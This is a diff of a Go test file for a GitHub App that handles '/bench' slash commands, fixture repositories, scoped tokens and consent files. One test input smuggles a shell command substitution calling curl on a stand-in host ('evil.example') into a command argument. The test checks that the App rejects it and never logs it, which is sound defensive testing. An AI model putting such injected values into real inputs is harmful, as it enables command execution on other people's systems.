@@ -1,16 +1,19 @@
 package appcli_test
 
 import (
-	"fmt"
 	"io"
+	"maps"
 	"net/http"
 	"net/http/cookiejar"
+	"regexp"
 	"strings"
 	"testing"
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 
+	"github.com/ghx-dev/bench-action/internal/app/consent"
+	"github.com/ghx-dev/bench-action/internal/sandbox"
 	"github.com/ghx-dev/bench-action/internal/sandbox/gitstore"
 	"github.com/ghx-dev/bench-action/internal/sandbox/model"
 	"github.com/ghx-dev/bench-action/internal/sandbox/sandboxtest"
@@ -51,39 +54,80 @@ func TestAPullRequestGetsItsGate(t *testing.T) {
 	assert.NotContains(t, s.out.String(), "ghs_")
 }
 
+// replies returns what the App has answered to commands, and reactions how it
+// reacted to each comment.
+func (w *world) replies() (replies []string, reactions map[model.ID][]string) {
+	reactions = map[model.ID][]string{}
+	w.Look(func(s *model.State) {
+		for c := range s.Comments.All() {
+			if s.Login(c.AuthorID) == "bench[bot]" && strings.Contains(c.Body, "<!-- bench-answer ") {
+				replies = append(replies, c.Body)
+			}
+		}
+		for r := range s.Reactions.All() {
+			reactions[r.SubjectID] = append(reactions[r.SubjectID], r.Content)
+		}
+	})
+	return replies, reactions
+}
+
+// metrics returns what Prometheus reads.
+func (s *server) metrics(t *testing.T) string {
+	t.Helper()
+	response, err := http.Get("http://" + s.address + "/metrics")
+	require.NoError(t, err)
+	defer response.Body.Close()
+	body, err := io.ReadAll(response.Body)
+	require.NoError(t, err)
+	return string(body)
+}
+
+// What is judged is how it is in the end: each command has one reaction and one
+// answer, and nothing else has any.
 func TestCommands(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t, trial)
-	w.serve()
+	s := w.serve()
 	w.open()
 	w.concluded(1)
-	reaction := func(comment model.ID) string {
-		var all []string
-		w.until("a reaction", func() bool {
-			reply := w.As("owner").Get(fmt.Sprintf("%s/issues/comments/%d/reactions", sandboxtest.Path, comment))
-			all = nil
-			if reply.Text("0.content") != "" {
-				all = append(all, reply.Text("0.content"))
-			}
-			return len(all) > 0
-		})
-		return all[0]
+	wanted, parts := map[model.ID][]string{}, [][]string{}
+	give := func(login, body, reaction string, says ...string) {
+		t.Helper()
+		wanted[w.comment(login, body)] = []string{reaction}
+		parts = append(parts, says)
+		w.until("an answer to "+body, func() bool { replies, _ := w.replies(); return len(replies) >= len(parts) })
 	}
-	assert.Equal(t, "-1", reaction(w.comment("writer", "/bench retry")))
-	w.said("`/bench retry`")
+	give("writer", "/bench retry", "-1", "`/bench retry`", "there is nothing to do")
 	require.Len(t, w.checks(), 1, "nothing is missing")
-
-	assert.Equal(t, "+1", reaction(w.comment("writer", "/bench run --repetitions 1")))
+	give("writer", "/bench run --repetitions 1", "+1", "`/bench run`", "| Scenarios | `pr-view-001` |", "| Repetitions | 1 |", "| Cells | 2 |", "| Cost | nothing: no model is involved |")
 	w.concluded(2)
-
-	assert.Equal(t, "-1", reaction(w.comment("reader", "/bench run")))
-	assert.Equal(t, "confused", reaction(w.comment("writer", "/bench run --model '$(curl evil.example)'")))
-	assert.Equal(t, "confused", reaction(w.comment("writer", "/bench rnu")))
-	assert.Equal(t, "+1", reaction(w.comment("writer", "/bench status")))
+	give("reader", "/bench run", "-1", "it needs write permission")
+	give("stranger", "/bench cancel", "-1", "it needs write permission")
+	give("writer", "/bench run --model '$(curl evil.example)'", "confused", "no quotation marks")
+	give("writer", "/bench rnu", "confused", "did you mean `run`?")
+	give("writer", "/bench status", "+1", "Simulated")
 	w.comment("writer", "```\n/bench run\n```")
 	w.comment("writer", "> /bench run")
-	assert.Equal(t, "+1", reaction(w.comment("writer", "/bench help")))
+	w.comment("stranger", "what does /bench run do?")
+	give("writer", "/bench help", "+1", "/bench approve")
+	w.until("talk is ignored", func() bool {
+		return strings.Contains(s.metrics(t), `bench_app_ignored_total{event="issue_comment",why="talk"} 3`)
+	})
+
 	assert.Len(t, w.checks(), 2)
+	replies, reactions := w.replies()
+	require.Len(t, replies, len(parts))
+	for i, all := range parts {
+		for _, part := range all {
+			assert.Contains(t, replies[i], part)
+		}
+	}
+	assert.Equal(t, wanted, reactions)
+	said := s.metrics(t)
+	for _, line := range []string{`{command="run",outcome="carried_out"} 1`, `{command="run",outcome="no_permission"} 1`, `{command="unreadable",outcome="mistaken"} 2`} {
+		assert.Contains(t, said, "bench_app_commands_total"+line)
+	}
+	assert.NotContains(t, s.out.String(), "curl evil")
 }
 
 func TestAForkIsMeasuredOnceItIsApproved(t *testing.T) {
@@ -223,16 +267,28 @@ func TestCheckSaysWhatTheAppLacks(t *testing.T) {
 	assert.Contains(t, said, "does not accept the key")
 }
 
+// plain is Markdown of ours without what keeps texts from being Markdown.
+func plain(markdown string) string {
+	return strings.NewReplacer(`\`, "", "\u200b", "").Replace(markdown)
+}
+
 // fixtures is a repository for fixtures, in which the App is installed too.
 const fixtures = "fixtures"
 
-// addFixtures adds it to an account.
+// addFixtures adds it to an account. It consents to what is measured here.
 func (w *world) addFixtures(owner string) {
 	w.t.Helper()
+	w.addTarget(owner, gitstore.Change{Path: consent.Path, Content: []byte("repositories: [owner/hello]\n")})
+}
+
+// addTarget is [world.addFixtures] with these files alone.
+func (w *world) addTarget(owner string, files ...gitstore.Change) {
+	w.t.Helper()
+	files = append(files, gitstore.Change{Path: "README.md", Content: []byte("# fixtures\n")})
 	w.Change(func(s *model.State, repo *model.Repo) {
 		account := s.User(owner).ID
 		added := s.AddRepo(model.NewRepo{Owner: account, Name: fixtures})
-		require.NoError(w.t, s.PushInitial(account, added, []gitstore.Change{{Path: "README.md", Content: []byte("# fixtures\n")}}, "first"))
+		require.NoError(w.t, s.PushInitial(account, added, files, "first"))
 		app := s.Apps.Get(w.app)
 		repos := []model.ID{added.ID}
 		if account == repo.OwnerID {
@@ -255,22 +311,49 @@ func (w *world) left() (open, branches int) {
 func TestFixturesAreSeededAndRemoved(t *testing.T) {
 	w := newWorld(t, trial+"target: owner/fixtures\n")
 	w.addFixtures(sandboxtest.Owner)
+	w.Trace()
 	s := w.serve()
 	w.open()
-	check := w.concluded(1)
+	tokens := map[string]sandbox.Token{} // revoked ones too, so they are gathered on the way
+	w.until("the end", func() bool {
+		maps.Copy(tokens, w.Tokens())
+		c := w.last()
+		return c != nil && c.Status == model.Completed
+	})
+	check := *w.last()
 	assert.Equal(t, model.Conclusion("neutral"), check.Conclusion, check.Output.Summary)
 	assert.Contains(t, check.Output.Summary, "Simulated")
 	open, branches := w.left()
 	assert.Equal(t, []int{0, 1}, []int{open, branches}, "what was seeded is removed")
-	made := 0
+	assert.Zero(t, s.stop(t), s.out)
+	wrote := map[string]bool{}
+	used := map[string]map[string]bool{}
 	for _, entry := range w.Audit() {
-		if strings.HasPrefix(entry.Path, "/repos/owner/fixtures/") && entry.Write {
-			made++
+		assert.False(t, entry.Token != "" && strings.Contains(s.out.String(), entry.Token), "the log has a token of %s", entry.Path)
+		if !strings.HasPrefix(entry.Token, "ghs_") {
+			continue
 		}
-		assert.NotContains(t, s.out.String(), entry.Token+`"`)
+		if used[entry.Token] == nil {
+			used[entry.Token] = map[string]bool{}
+		}
+		for _, object := range entry.Objects {
+			used[entry.Token][repoIn.FindString(object)] = true
+		}
+		if strings.HasPrefix(entry.Path, "/repos/owner/fixtures/") && entry.Write {
+			wrote[entry.Token] = true
+		}
 	}
-	assert.Positive(t, made)
+	require.NotEmpty(t, wrote)
+	var fixturesID model.ID
+	w.Look(func(s *model.State) { fixturesID = s.Repo(sandboxtest.Owner, fixtures).ID })
+	for token := range wrote {
+		assert.Equal(t, []model.ID{fixturesID}, tokens[token].Repos, "it is for no other repository")
+		assert.Equal(t, map[string]bool{"owner/fixtures": true}, used[token], "it was used for no other repository")
+	}
 }
+
+// repoIn finds the repository in the name of an object.
+var repoIn = regexp.MustCompile(`owner/[a-z]+`)
 
 func TestFixturesAreRemovedThoughTheRunWasCancelled(t *testing.T) {
 	w := newWorld(t, longer+"target: owner/fixtures\n")
@@ -297,5 +380,31 @@ func TestFixturesOfAnotherAccountAreNotTouched(t *testing.T) {
 	assert.Contains(t, check.Output.Summary, "belongs to another account")
 	for _, entry := range w.Audit() {
 		assert.False(t, entry.Write && strings.HasPrefix(entry.Path, "/repos/stranger/fixtures"), entry.Path)
+	}
+}
+
+// Who may write settings somewhere is not to have the App write elsewhere.
+func TestARepositoryThatDoesNotConsentIsNotTouched(t *testing.T) {
+	for name, files := range map[string][]gitstore.Change{
+		"it has no file":         nil,
+		"it names another one":   {{Path: consent.Path, Content: []byte("repositories: [owner/other]\n")}},
+		"its file has a mistake": {{Path: consent.Path, Content: []byte("repos: [owner/hello]\n")}},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			w := newWorld(t, trial+"target: owner/fixtures\n")
+			w.addTarget(sandboxtest.Owner, files...)
+			w.serve()
+			w.open()
+			check := w.concluded(1)
+			assert.Equal(t, model.Conclusion("action_required"), check.Conclusion)
+			assert.Contains(t, plain(check.Output.Summary), `once "repositories: [owner/hello]" is in .github/bench-fixtures.yml on the default branch of owner/fixtures`)
+			for _, entry := range w.Audit() {
+				if strings.HasPrefix(entry.Path, "/repos/owner/fixtures/") && !strings.HasSuffix(entry.Path, "/installation") {
+					assert.Equal(t, "/repos/owner/fixtures/contents/"+consent.Path, entry.Path)
+					assert.False(t, entry.Write)
+				}
+			}
+		})
 	}
 }
